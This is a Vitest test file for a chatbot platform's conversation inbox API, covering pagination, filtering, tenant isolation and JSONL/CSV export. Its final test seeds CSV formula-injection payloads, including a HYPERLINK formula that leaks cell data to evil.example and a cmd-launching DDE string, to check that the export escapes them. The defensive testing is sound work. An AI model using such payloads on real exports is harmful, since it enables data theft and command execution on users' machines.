import { describe, expect, test } from 'vitest'
import * as exportRoute from '@/app/api/conversations/export/route'
import * as review from '@/app/api/conversations/[id]/messages/route'
import * as conversations from '@/app/api/conversations/route'
import { call } from './helpers/http'
import { seedAgent, seedConversation } from './helpers/seed-conversations'
import { createTenant } from './helpers/tenants'

const DAY = 86_400_000
const list = (query: string, headers: Record<string, string>) => call(conversations.GET, `/api/conversations?${query}`, { headers })

async function allIds(query: string, headers: Record<string, string>) {
  const ids: string[] = []
  let cursor: string | null = null
  do {
    const res = await list(`${query}&limit=7${cursor ? `&cursor=${cursor}` : ''}`, headers)
    expect(res.status).toBe(200)
    ids.push(...res.json.items.map((c: any) => c.id))
    cursor = res.json.nextCursor
  } while (cursor)
  return ids
}

describe('the conversation inbox', () => {
  test('pages through every conversation by cursor, newest activity first, none twice and none missed', async () => {
    const tenant = await createTenant()
    const agent = await seedAgent(tenant.ctx.organizationId)
    const seeded: string[] = []
    const t0 = Date.parse('2026-11-01T10:00:00Z')
    for (let i = 0; i < 30; i++) {
      // several share a time: the id breaks the tie
      seeded.push((await seedConversation(tenant.ctx.organizationId, agent.id, { at: new Date(t0 + Math.floor(i / 3) * 1000), messages: [{ role: 'user', text: `question ${i}` }] })).conversationId)
    }
    const ids = await allIds('', tenant.headers)
    expect(ids).toHaveLength(30)
    expect(new Set(ids)).toEqual(new Set(seeded))
    expect(await allIds('', (await createTenant()).headers)).toEqual([])
  })

  test('filters by agent, channel, date range, text, feedback and no/weak sources', async () => {
    const tenant = await createTenant()
    const org = tenant.ctx.organizationId
    const support = await seedAgent(org, 'Support')
    const sales = await seedAgent(org, 'Sales')
    const now = Date.now()
    const good = await seedConversation(org, support.id, { channel: 'website', at: new Date(now - 5 * DAY), messages: [{ role: 'user', text: 'Kettle warranty?' }, { role: 'assistant', text: 'Two years.', topScore: 0.9, votes: ['good'] }] })
    const bad = await seedConversation(org, support.id, { channel: 'api', at: new Date(now - 2 * DAY), messages: [{ role: 'user', text: 'Refund policy?' }, { role: 'assistant', text: 'I do not know.', noSources: true, votes: ['bad'] }] })
    const weak = await seedConversation(org, sales.id, { channel: 'dashboard', at: new Date(now), messages: [{ role: 'user', text: 'Price of the toaster?' }, { role: 'assistant', text: 'Maybe 20.', topScore: 0.1 }] })
    const ids = async (q: string) => (await list(q, tenant.headers)).json.items.map((c: any) => c.id).sort()
    expect(await ids(`agentId=${sales.id}`)).toEqual([weak.conversationId])
    expect(await ids('channel=website')).toEqual([good.conversationId])
    const day = (offset: number) => new Date(now + offset * DAY).toISOString().slice(0, 10)
    expect(await ids(`from=${day(-3)}&to=${day(-1)}`)).toEqual([bad.conversationId])
    expect(await ids('q=WARRANTY')).toEqual([good.conversationId])
    expect(await ids('q=know')).toEqual([bad.conversationId])
    expect(await ids('feedback=good')).toEqual([good.conversationId])
    expect(await ids('feedback=down')).toEqual([bad.conversationId])
    expect(await ids('feedback=none')).toEqual([weak.conversationId])
    expect(await ids('sources=none')).toEqual([bad.conversationId])
    expect(await ids('sources=weak')).toEqual([bad.conversationId, weak.conversationId].sort())
    const item = (await list(`agentId=${support.id}&feedback=bad`, tenant.headers)).json.items[0]
    expect(item).toMatchObject({ agentName: 'Support', votes: { good: 0, bad: 1 }, noSources: true, weakSources: true, messageCount: 2 })
    expect((await list('channel=fax', tenant.headers)).status).toBe(400)
    expect((await list('q=%25', tenant.headers)).json.items).toEqual([])
  })

  test('a conversation opens with its messages, sources, searched query and votes; another organization gets 404', async () => {
    const tenant = await createTenant()
    const agent = await seedAgent(tenant.ctx.organizationId)
    const c = await seedConversation(tenant.ctx.organizationId, agent.id, {
      messages: [{ role: 'user', text: 'and for kids?' }, { role: 'assistant', text: 'Half price.', searchQuery: 'ticket price for kids', topScore: 0.7, votes: ['good', 'bad'], comment: 'unclear' }],
    })
    const res = await call(review.GET, `/api/conversations/${c.conversationId}/messages`, { headers: tenant.headers, params: { id: c.conversationId } })
    expect(res.status).toBe(200)
    expect(res.json.messages[1]).toMatchObject({ searchQuery: 'ticket price for kids', topScore: 0.7, votes: { good: 1, bad: 1, comments: ['unclear', 'unclear'] } })
    const other = await createTenant()
    expect((await call(review.GET, '/x', { headers: other.headers, params: { id: c.conversationId } })).status).toBe(404)
  })

  test('exports the filtered set as JSONL and CSV', async () => {
    const tenant = await createTenant()
    const agent = await seedAgent(tenant.ctx.organizationId)
    for (let i = 0; i < 3; i++) {
      await seedConversation(tenant.ctx.organizationId, agent.id, { channel: i === 0 ? 'website' : 'api', messages: [{ role: 'user', text: `q${i}, "quoted"\nline` }, { role: 'assistant', text: 'a' }] })
    }
    const jsonl = await call(exportRoute.GET, '/api/conversations/export?format=jsonl&channel=api', { headers: tenant.headers })
    expect(jsonl.headers.get('content-type')).toContain('application/x-ndjson')
    const lines = jsonl.text.trim().split('\n').map(l => JSON.parse(l))
    expect(lines).toHaveLength(2)
    expect(lines[0].messages).toHaveLength(2)
    const csv = await call(exportRoute.GET, '/api/conversations/export?format=csv', { headers: tenant.headers })
    expect(csv.headers.get('content-disposition')).toContain('.csv')
    expect(csv.text.startsWith('conversation_id,agent_id')).toBe(true)
    expect(csv.text).toContain('"q0, ""quoted""\nline"')
    expect(csv.text.trim().split('\r\n')).toHaveLength(1 + 6)
    expect((await call(exportRoute.GET, '/api/conversations/export')).status).toBe(401)
  })

  test("a visitor's question that a spreadsheet would run as a formula is exported as text (OWASP's leading ')", async () => {
    const tenant = await createTenant()
    const agent = await seedAgent(tenant.ctx.organizationId)
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tlead', '\rlead']
    await seedConversation(tenant.ctx.organizationId, agent.id, { channel: 'website', messages: hostile.map(text => ({ role: 'user' as const, text })) })
    const csv = await call(exportRoute.GET, '/api/conversations/export?format=csv', { headers: tenant.headers })
    const cells = csv.text.split(/,|\r\n/)
    for (const text of hostile) {
      const quoted = /[",\r\n]/.test(`'${text}`) ? `"'${text.replace(/"/g, '""')}"` : `'${text}`
      expect(csv.text, text).toContain(quoted)
    }
    // no cell starts with a formula character
    expect(cells.filter(cell => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
  })
})
